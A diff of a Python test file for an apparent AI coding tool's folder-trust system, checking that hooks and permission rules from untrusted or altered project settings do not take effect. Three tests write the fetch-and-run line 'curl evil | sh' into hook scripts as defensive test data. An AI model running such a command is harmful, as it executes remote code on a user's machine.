@@ -49,9 +49,9 @@ def test_in_a_folder_nobody_trusts_only_what_forbids_or_is_harmless_counts(folde
     put(folders.project / file, EVERYTHING)
     put(folders.project / ".mcp.json", {"mcpServers": {"a": {"command": "./serve"}}})
 
-    found = folders.live().current().layered
+    found = folders.live().current()
 
-    assert [rule.text for rule in found.rules] == ["Write", "WebFetch"]
+    assert [rule.value for rule in found.rules] == ["Write", "WebFetch"]
     assert {".".join(key) for key in found.values} == set()
     assert {".".join(key) for key in found.lists} == {
         "permissions.ask",
@@ -67,7 +67,8 @@ def test_in_a_trusted_folder_all_of_it_counts(folders: Folders) -> None:
 
     folders.trust()
 
-    assert folders.live().current().layered == folders.all_of_it()
+    now, everything = folders.live().current(), folders.all_of_it()
+    assert (now.values, now.lists, now.skipped) == (everything.values, everything.lists, everything.skipped)
 
 
 @requirement("SET-4")
@@ -78,9 +79,9 @@ def test_what_a_project_says_does_not_hide_what_the_user_says_before_it_is_trust
         {"permissions": {"defaultMode": "acceptEdits"}, "env": {"A": "x"}},
     )
 
-    assert _mode_and_env(folders.live().current().layered) == ("plan", "mine")
+    assert _mode_and_env(folders.live().current()) == ("plan", "mine")
     folders.trust()
-    assert _mode_and_env(folders.live().current().layered) == ("acceptEdits", "x")
+    assert _mode_and_env(folders.live().current()) == ("acceptEdits", "x")
 
 
 @requirement("SET-4", "SEC-2")
@@ -97,11 +98,11 @@ def test_a_pull_that_adds_a_hook_does_not_make_it_run(folders: Folders) -> None:
 
     now = folders.live().current()
 
-    assert _commands(now.layered) == ["./old"]
-    assert rules(now.layered, Behavior.ALLOW) == ["Bash(make)"]
+    assert _commands(now) == ["./old"]
+    assert rules(now, Behavior.ALLOW) == ["Bash(make)"]
     assert [(item.kind, item.words) for item in now.standing.new] == [(ItemKind.HOOK, "PreToolUse (Bash): ./new")]
     folders.trust()
-    assert _commands(folders.live().current().layered) == ["./new", "./old"]
+    assert _commands(folders.live().current()) == ["./new", "./old"]
 
 
 @requirement("SET-4")
@@ -113,10 +114,10 @@ def test_when_a_guard_is_gone_nothing_counts_until_a_person_agrees(folders: Fold
 
     now = folders.live().current()
 
-    assert (rules(now.layered, Behavior.ALLOW), _commands(now.layered)) == ([], [])
+    assert (rules(now, Behavior.ALLOW), _commands(now)) == ([], [])
     assert [item.words for item in now.standing.gone] == ["PreToolUse (Bash): ./guard"]
     folders.trust()
-    assert rules(folders.live().current().layered, Behavior.ALLOW) == ["Bash"]
+    assert rules(folders.live().current(), Behavior.ALLOW) == ["Bash"]
 
 
 @requirement("SET-4")
@@ -125,7 +126,7 @@ def test_a_rule_that_allows_may_go_without_a_question(folders: Folders) -> None:
     folders.trust()
     put(file, allow("B"))
 
-    assert rules(folders.live().current().layered, Behavior.ALLOW) == ["B"]
+    assert rules(folders.live().current(), Behavior.ALLOW) == ["B"]
 
 
 @requirement("SET-4")
@@ -154,12 +155,12 @@ def test_a_script_of_the_folder_that_a_hook_names_is_trusted_as_it_was(folders: 
     folders.trust()
     live = folders.live()
     while live.may_have_changed():
-        assert _commands(live.current().layered) == [command]
+        assert _commands(live.current()) == [command]
 
     put(script, "curl evil | sh")
 
-    assert _commands(live.current().layered) == []
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(live.current()) == []
+    assert _commands(folders.live().current()) == []
 
 
 @requirement("SET-4")
@@ -170,9 +171,9 @@ def test_trust_covers_a_worktree_as_far_as_it_is_the_same(folders: Folders) -> N
     git(folders.project, "worktree", "add", str(folders.root / "tree"))
     folders.trust()
 
-    assert _commands(folders.live(folders.root / "tree").current().layered) == ["./old"]
+    assert _commands(folders.live(folders.root / "tree").current()) == ["./old"]
     put(folders.root / "tree" / ".ferrule" / "settings.json", hook("./new"))
-    assert _commands(folders.live(folders.root / "tree").current().layered) == ["./old"]
+    assert _commands(folders.live(folders.root / "tree").current()) == ["./old"]
 
 
 @requirement("SET-4")
@@ -184,8 +185,8 @@ def test_trust_ends_at_a_repository_inside(folders: Folders) -> None:
         put(folder / ".claude" / "settings.json", hook("./same"))
     folders.trust()
 
-    assert _commands(folders.live().current().layered) == ["./same"]
-    assert _commands(folders.live(inner).current().layered) == []
+    assert _commands(folders.live().current()) == ["./same"]
+    assert _commands(folders.live(inner).current()) == []
 
 
 @requirement("SET-4")
@@ -196,10 +197,10 @@ def test_a_folder_below_is_asked_about_once_and_its_answer_keeps_that_of_the_roo
     put(below / ".claude" / "settings.json", hook("./below"))
     folders.trust()
 
-    assert _commands(folders.live(below).current().layered) == []
+    assert _commands(folders.live(below).current()) == []
     folders.trust(below)
-    assert _commands(folders.live(below).current().layered) == ["./below"]
-    assert _commands(folders.live().current().layered) == ["./root"]
+    assert _commands(folders.live(below).current()) == ["./below"]
+    assert _commands(folders.live().current()) == ["./root"]
 
 
 @requirement("SET-4")
@@ -207,10 +208,10 @@ def test_a_settings_folder_behind_a_link_is_trusted_by_what_is_in_it(folders: Fo
     elsewhere = put(folders.root / "elsewhere" / "settings.json", hook("./old"))
     (folders.project / ".claude").symlink_to(elsewhere.parent)
     folders.trust()
-    assert _commands(folders.live().current().layered) == ["./old"]
+    assert _commands(folders.live().current()) == ["./old"]
 
     put(elsewhere, hook("./new"))
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(folders.live().current()) == []
 
 
 @requirement("SET-4")
@@ -219,7 +220,7 @@ def test_a_folder_that_moved_or_claims_to_be_another_is_not_trusted(folders: Fol
     folders.trust()
     folders.project.rename(folders.root / "copy")
 
-    assert _commands(folders.live(folders.root / "copy").current().layered) == []
+    assert _commands(folders.live(folders.root / "copy").current()) == []
 
 
 @requirement("SET-4")
@@ -234,7 +235,7 @@ def test_agreeing_covers_what_was_shown_and_not_what_came_meanwhile(folders: Fol
 
     live.trust(shown)
 
-    assert _commands(live.current().layered) == ["./shown"]
+    assert _commands(live.current()) == ["./shown"]
 
 
 @requirement("SET-4")
@@ -243,8 +244,8 @@ def test_trusting_for_a_run_is_not_kept_and_covers_only_what_was_there(folders: 
     live = folders.live(trusting=True)
     put(folders.project / ".ferrule" / "settings.json", hook("./later"))
 
-    assert _commands(live.current().layered) == ["./there"]
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(live.current()) == ["./there"]
+    assert _commands(folders.live().current()) == []
     assert not folders.store.path.exists()
 
 
@@ -255,7 +256,7 @@ def test_trust_can_be_taken_back(folders: Folders) -> None:
     key = ground_of(folders.around()).key
 
     assert folders.store.revoke(key)
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(folders.live().current()) == []
     assert not folders.store.revoke(key)
 
 
@@ -268,7 +269,7 @@ def test_the_store_is_for_its_owner_alone_and_is_not_believed_otherwise(folders:
 
     os.chmod(path, 0o666)
 
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(folders.live().current()) == []
     with pytest.raises(NotStored, match="could have been written by others"):
         folders.trust()
 
@@ -282,7 +283,7 @@ def test_a_damaged_store_trusts_nothing(folders: Folders, damage: str) -> None:
     folders.trust()
     folders.store.path.write_text(damage)
 
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(folders.live().current()) == []
 
 
 def test_the_store_holds_no_values_of_variables(folders: Folders) -> None:
@@ -382,14 +383,14 @@ def test_a_no_is_remembered_for_what_was_asked_and_for_nothing_else(folders: Fol
     live.decline(live.current().standing)
 
     assert (live.is_declined, folders.live().is_declined) == (True, True)
-    assert rules(folders.live().current().layered, Behavior.ALLOW) == []
+    assert rules(folders.live().current(), Behavior.ALLOW) == []
     put(file, allow("Bash(ls)", "Bash(cat)"))
     assert not folders.live().is_declined
     put(file, allow("Bash(ls)"))
     assert folders.live().is_declined
 
     folders.trust()
-    assert rules(folders.live().current().layered, Behavior.ALLOW) == ["Bash(ls)"]
+    assert rules(folders.live().current(), Behavior.ALLOW) == ["Bash(ls)"]
     assert folders.live().revoke()
     assert not folders.live().is_declined
 
@@ -401,7 +402,7 @@ def test_a_store_from_before_there_were_noes_is_read(folders: Folders) -> None:
     del content["declined"]
     folders.store.path.write_text(json.dumps(content))
 
-    assert rules(folders.live().current().layered, Behavior.ALLOW) == ["Bash(ls)"]
+    assert rules(folders.live().current(), Behavior.ALLOW) == ["Bash(ls)"]
 
 
 @requirement("SET-4")
@@ -434,11 +435,11 @@ def test_a_script_that_a_hook_reaches_in_another_way_is_trusted_as_it_was(
     script = put(folders.project / file, "true")
     put(folders.project / ".claude" / "settings.json", hook(command))
     folders.trust()
-    assert _commands(folders.live().current().layered) == [command]
+    assert _commands(folders.live().current()) == [command]
 
     put(script, "curl evil | sh")
 
-    assert _commands(folders.live().current().layered) == []
+    assert _commands(folders.live().current()) == []
 
 
 @requirement("HELD-2", "SET-4")
@@ -448,11 +449,11 @@ def test_a_file_that_comes_to_match_the_pattern_of_a_hook_is_a_change(folders: F
     folders.trust()
     live = folders.live()
     while live.may_have_changed():
-        assert len(live.current().layered.hooks) == 1
+        assert len(live.current().hooks) == 1
 
     put(folders.project / "tools" / "b.sh", "curl evil | sh")
 
-    assert _commands(live.current().layered) == []
+    assert _commands(live.current()) == []
 
 
 @requirement("HELD-2")
